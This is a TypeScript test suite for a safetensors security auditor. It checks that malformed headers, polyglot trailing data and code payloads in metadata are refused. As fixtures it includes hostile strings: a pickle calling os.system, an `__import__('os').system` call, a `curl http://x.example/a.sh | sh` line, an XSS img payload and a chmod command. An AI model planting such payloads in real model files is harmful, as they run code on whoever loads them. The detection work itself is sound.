/** safetensors headers: every way `safe_open` refuses a file, polyglots and metadata payloads, audited like a user would. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/core/report.js';
import { callPickle } from '../fixtures/pickle-writer.js';
import { safetensors, type TensorSpec } from '../fixtures/safetensors-writer.js';
import { buildZip } from '../fixtures/zip-writer.js';
import { auditFiles, auditPath, ruleIds, SHARED_DATA, serious } from '../helpers.js';

const weights: TensorSpec[] = [
  { name: 'linear.weight', shape: [2, 3], values: [0.1, -0.2, 0.3, -0.4, 0.5, -0.6] },
  { name: 'linear.bias', shape: [2], values: [0.01, -0.02] },
];

const explain = (report: Report) =>
  report.findings.map((finding) => `${finding.severity} ${finding.ruleId}: ${finding.message}`).join('\n');

async function expectClean(files: Record<string, Uint8Array | string>) {
  const report = await auditFiles(files);
  expect(report.findings, explain(report)).toEqual([]);
  expect(report.gate.exitCode).toBe(0);
  return report;
}

/** The file is refused for the given reason: a high finding of `rule`, exit 1, and the message says `text`. */
async function expectRefused(bytes: Uint8Array, rule: string, text?: RegExp, name = 'model.safetensors') {
  const report = await auditFiles({ [name]: bytes });
  expect(report.gate.exitCode, explain(report)).toBe(1);
  const found = serious(report).filter((finding) => finding.ruleId === `security/${rule}`);
  expect(found.length, explain(report)).toBeGreaterThan(0);
  if (text) expect(found.map((finding) => finding.message).join('\n')).toMatch(text);
  return found;
}

describe('well-formed safetensors files scan clean', () => {
  it('tensors of every dtype, scalars, empty tensors and format metadata', async () => {
    const report = await expectClean({
      'model.safetensors': safetensors(
        [
          ...weights,
          { name: 'half', dtype: 'F16', shape: [4], values: [0.5, -1, 2, 0.25] },
          { name: 'brain', dtype: 'BF16', shape: [2, 2], values: [1.5, -0.5, 3, 0.125] },
          { name: 'double', dtype: 'F64', shape: [], values: [0.75] },
          { name: 'fp8', dtype: 'F8_E4M3', shape: [3], bytes: new Uint8Array([0x38, 0xb8, 0x40]) },
          { name: 'fp4', dtype: 'F4', shape: [2, 2], bytes: new Uint8Array([0x12, 0x34]) },
          { name: 'position_ids', dtype: 'I64', shape: [1, 4], values: [0, 1, 2, 3] },
          { name: 'mask', dtype: 'BOOL', shape: [3], values: [1, 0, 1] },
          { name: 'empty', dtype: 'F32', shape: [0, 7], values: [] },
        ],
        { metadata: { format: 'pt' } },
      ),
    });
    expect(report.files[0].format).toBe('safetensors');
  });

  it('headers longer than the first read, padded with spaces, with non-ASCII names', async () => {
    const many = Array.from({ length: 600 }, (_, i) => ({
      name: `encoder.layers.${i}.ñorm.weight`,
      shape: [2],
      values: [1 + i / 1000, 1 - i / 1000],
    }));
    await expectClean({ 'model.safetensors': safetensors(many, { metadata: { format: 'pt', note: 'données' } }) });
  });

  it('safetensors read from a stream of unknown size (inside gzip)', async () => {
    await expectClean({ 'model.safetensors.gz': gzipSync(safetensors(weights)) });
  });
});

describe('headers safe_open refuses are high findings', () => {
  it('a header length above 100,000,000 bytes', async () => {
    await expectRefused(
      safetensors(weights, { headerLength: 100_000_001n }),
      'safetensors-header-invalid',
      /100000000/,
    );
  });

  it('a header length beyond the end of the file, or a file cut inside its header', async () => {
    await expectRefused(safetensors(weights, { headerLength: 10_000n }), 'safetensors-header-invalid', /claims 10000/);
    const cutInHeader = safetensors(weights).subarray(0, 40);
    await expectRefused(cutInHeader, 'safetensors-header-invalid', /only 32 follow/, 'shard.bin');
  });

  it('a file shorter than the length field', async () => {
    await expectRefused(new Uint8Array([1, 0, 0]), 'safetensors-header-invalid', /shorter than the 8-byte/);
  });

  it('a header that is not UTF-8', async () => {
    const headerBytes = new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]);
    await expectRefused(safetensors([], { headerBytes }), 'safetensors-header-invalid', /not UTF-8/);
  });

  it('a header that does not start with "{" (leading space, byte order mark)', async () => {
    await expectRefused(safetensors([], { headerText: ' {}' }), 'safetensors-header-invalid', /must start with/);
    await expectRefused(safetensors([], { headerText: '\ufeff{}' }), 'safetensors-header-invalid', /must start with/);
  });

  it('a header that is not JSON, or has text after the object', async () => {
    const [finding] = await expectRefused(
      safetensors([], { headerText: '{"a": }' }),
      'safetensors-header-invalid',
      /not valid JSON/,
    );
    expect(finding.location?.offset).toBe(8 + 6);
    await expectRefused(safetensors([], { headerText: '{} {}' }), 'safetensors-header-invalid', /after the closing/);
  });

  it('__metadata__ that is not a map of strings to strings', async () => {
    await expectRefused(safetensors(weights, { metadata: { epochs: 3 } }), 'safetensors-header-invalid', /"epochs"/);
    await expectRefused(safetensors(weights, { metadata: ['pt'] }), 'safetensors-header-invalid', /__metadata__/);
  });

  it('tensor entries with missing or ill-typed fields, named', async () => {
    const broken: [string, RegExp][] = [
      ['{"shape":[1],"data_offsets":[0,4]}', /"dtype" is missing/],
      ['{"dtype":"F32","shape":[-1],"data_offsets":[0,4]}', /"shape"/],
      ['{"dtype":"F32","shape":[1.0],"data_offsets":[0,4]}', /"shape"/],
      ['{"dtype":"F32","shape":[1],"data_offsets":[0,4,8]}', /"data_offsets"/],
      ['{"dtype":"F32","shape":[1],"data_offsets":[0,1e2]}', /"data_offsets"/],
      ['[1, 2]', /not an object/],
    ];
    for (const [rawEntry, text] of broken) {
      const [finding] = await expectRefused(
        safetensors([{ name: 'w', shape: [1], rawEntry }]),
        'safetensors-header-invalid',
        text,
      );
      expect(finding.message).toContain('Tensor "w"');
    }
  });

  it('duplicate keys, including one spelled with a JSON escape', async () => {
    const duplicated = safetensors(weights, {
      extraEntries: ['"linear.bias":{"dtype":"F32","shape":[2],"data_offsets":[24,32]}'],
    });
    await expectRefused(duplicated, 'safetensors-duplicate-key', /"linear\.bias"/);
    const escaped = safetensors(weights, {
      extraEntries: ['"linear.\\u0062ias":{"dtype":"F32","shape":[2],"data_offsets":[24,32]}'],
    });
    await expectRefused(escaped, 'safetensors-duplicate-key', /"linear\.bias"/);
    const inMetadata = safetensors(weights, { extraEntries: ['"__metadata__":{"format":"np"}'], metadata: {} });
    await expectRefused(inMetadata, 'safetensors-duplicate-key', /"__metadata__"/);
    const inEntry = safetensors([
      { name: 'w', shape: [1], rawEntry: '{"dtype":"F32","dtype":"F64","shape":[1],"data_offsets":[0,4]}' },
    ]);
    await expectRefused(inEntry, 'safetensors-duplicate-key', /"dtype".*"w"/);
  });

  it('a dtype the format does not define', async () => {
    const bytes = safetensors([{ name: 'w', dtype: 'Q4_0', shape: [2], bytes: new Uint8Array(8) }]);
    await expectRefused(bytes, 'safetensors-unknown-dtype', /"w" has dtype "Q4_0"/);
  });

  it('a span that disagrees with shape × dtype size, misaligned sub-byte tensors, overflowing shapes', async () => {
    await expectRefused(
      safetensors([{ name: 'w', shape: [2, 2], bytes: new Uint8Array(12) }]),
      'safetensors-layout-invalid',
      /"w": shape \[2, 2\] of F32 needs 16 bytes but data_offsets \[0, 12\] hold 12/,
    );
    await expectRefused(
      safetensors([{ name: 'fp4', dtype: 'F4', shape: [3], bytes: new Uint8Array(2), offsets: [0, 2] }]),
      'safetensors-layout-invalid',
      /whole number of bytes/,
    );
    await expectRefused(
      safetensors([{ name: 'huge', shape: [4294967296, 4294967296, 4294967296], bytes: new Uint8Array(4) }]),
      'safetensors-layout-invalid',
      /overflows/,
    );
  });

  it('holes and overlaps between tensors', async () => {
    const hole = safetensors([
      { name: 'a', shape: [2], values: [1, 2] },
      { name: 'b', shape: [2], values: [3, 4], offsets: [12, 20] },
    ]);
    await expectRefused(hole, 'safetensors-layout-invalid', /"b": bytes 8–12 of the data section belong to no tensor/);
    const overlap = safetensors([
      { name: 'a', shape: [2], values: [1, 2] },
      { name: 'b', shape: [2], values: [3, 4], offsets: [0, 8] },
    ]);
    await expectRefused(overlap, 'safetensors-layout-invalid', /inside the previous tensor/);
  });

  it('offsets above 2^53 are read exactly, not rounded', async () => {
    const far = safetensors([
      { name: 'far', shape: [1], values: [1], offsets: ['18446744073709551611', '18446744073709551615'] },
    ]);
    await expectRefused(far, 'safetensors-layout-invalid', /bytes 0–18446744073709551611/);
  });

  it('a file cut short names the tensors that lost their bytes', async () => {
    const bytes = safetensors(weights, { truncate: 4 });
    await expectRefused(bytes, 'safetensors-truncated', /1 tensor\(s\) are cut short \("linear.bias"\)/);
    await expectRefused(
      safetensors(weights, { truncate: 12 }),
      'safetensors-truncated',
      /"linear.weight", "linear.bias"/,
    );
  });
});

describe('polyglots and metadata payloads', () => {
  it('a zip or a pickle appended after the tensor data', async () => {
    const zip = buildZip([{ name: 'payload.py', data: 'import os\n' }]);
    const [finding] = await expectRefused(safetensors(weights, { trailing: zip }), 'safetensors-trailing-data', /zip/);
    expect(finding.evidence).toMatchObject({ length: zip.length, looksLike: 'zip' });
    const evil = callPickle('os', 'system', 'echo pwned', 2);
    await expectRefused(safetensors(weights, { trailing: evil }), 'safetensors-trailing-data', /pickle/);
  });

  it('trailing data is also found when the size is unknown (a stream inside gzip)', async () => {
    const report = await auditFiles({
      'w.safetensors.gz': gzipSync(safetensors(weights, { trailing: new Uint8Array(9) })),
    });
    expect(ruleIds(report)).toContain('security/safetensors-trailing-data');
  });

  it('code and shell payloads in __metadata__ are high; markup and commands medium; URLs low', async () => {
    const cases: [Record<string, string>, string, RegExp][] = [
      [{ note: "__import__('os').system('id')" }, 'high', /imports a module from a string/],
      [{ hook: 'curl http://x.example/a.sh | sh' }, 'high', /pipes a script/],
      [{ card: '<img src=x onerror="alert(1)">' }, 'medium', /HTML or JavaScript/],
      [{ setup: 'chmod 777 /tmp/x' }, 'medium', /shell command line/],
      [{ homepage: 'https://example.org/model' }, 'low', /URL/],
    ];
    for (const [metadata, severity, text] of cases) {
      const report = await auditFiles({ 'model.safetensors': safetensors(weights, { metadata }) });
      const found = report.findings.filter((finding) => finding.ruleId === 'security/safetensors-metadata-payload');
      expect(
        found.map((finding) => finding.severity),
        explain(report),
      ).toEqual([severity]);
      expect(found[0].message).toMatch(text);
      expect(found[0].message).toContain(`"${Object.keys(metadata)[0]}"`);
      expect(report.gate.exitCode).toBe(severity === 'high' ? 1 : 0);
    }
  });

  it('ordinary metadata (training parameters, licences, versions) is clean', async () => {
    await expectClean({
      'model.safetensors': safetensors(weights, {
        metadata: { format: 'pt', license: 'apache-2.0', ss_learning_rate: '1e-4', modelspec_title: 'tiny' },
      }),
    });
  });
});

describe('hostile input never crashes the audit', () => {
  it('every prefix of a valid file is judged (refused or clean), never thrown', async () => {
    const whole = safetensors(weights, { metadata: { format: 'pt' } });
    for (let length = 0; length < whole.length; length += 7) {
      const report = await auditFiles({ 'model.safetensors': whole.subarray(0, length) });
      if (length > 0) expect(report.gate.exitCode, `prefix of ${length} bytes`).toBe(1);
    }
  });

  it('deeply nested JSON in the header is refused, not a stack overflow', async () => {
    const headerText = `{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    await expectRefused(safetensors([], { headerText }), 'safetensors-header-invalid', /nesting deeper/);
  });
});

describe('ModelAudit safetensors samples', () => {
  const folder = join(SHARED_DATA, 'peer-corpora', 'modelaudit');
  const labels = (() => {
    try {
      return JSON.parse(readFileSync(join(folder, 'labels.json'), 'utf8')) as Record<string, { label: string }>;
    } catch {
      return undefined;
    }
  })();
  /** Labelled samples as labelled; unlabelled ones ("unknown") as Assay judges them, with the reason. */
  const expected: Record<string, { exit: number; severity: string; why: string }> = {
    'malicious_import.safetensors': { exit: 1, severity: 'high', why: 'os.system in metadata (label: malicious)' },
    'safe_model.safetensors': { exit: 0, severity: 'none', why: 'plain descriptive metadata (label: benign)' },
    'multiple_patterns.safetensors': { exit: 1, severity: 'high', why: 'subprocess.call in metadata' },
    'obfuscated_metadata.safetensors': { exit: 1, severity: 'high', why: 'exec(base64.b64decode(...)) in metadata' },
    'script_injection.safetensors': { exit: 0, severity: 'medium', why: '<script>: stored XSS, inert for loaders' },
    'shell_commands.safetensors': { exit: 0, severity: 'medium', why: 'chmod / rm -rf /tmp: commands, not executed' },
    'suspicious_url.safetensors': { exit: 0, severity: 'low', why: 'URLs only' },
  };

  it.runIf(labels || process.env.ASSAY_REQUIRE_SHARED_DATA)('labels agree with the judgements below', () => {
    for (const [name, { exit }] of Object.entries(expected)) {
      const label = labels?.[`samples/safetensors/${name}`]?.label;
      expect(label, name).toBeDefined();
      if (label === 'malicious') expect(exit).toBe(1);
      if (label === 'benign') expect(exit).toBe(0);
    }
  });

  for (const [name, { exit, severity, why }] of Object.entries(expected)) {
    it.runIf(labels || process.env.ASSAY_REQUIRE_SHARED_DATA)(`${name}: exit ${exit} (${why})`, async () => {
      const report = await auditPath(join(folder, 'samples', 'safetensors', name));
      expect(report.gate.exitCode, explain(report)).toBe(exit);
      const metadata = report.findings.filter((finding) => finding.ruleId === 'security/safetensors-metadata-payload');
      const worst = metadata.map((finding) => finding.severity).sort((a, b) => order(a) - order(b))[0] ?? 'none';
      expect(worst, explain(report)).toBe(severity);
    });
  }
});

function order(severity: string): number {
  return ['critical', 'high', 'medium', 'low', 'info'].indexOf(severity);
}
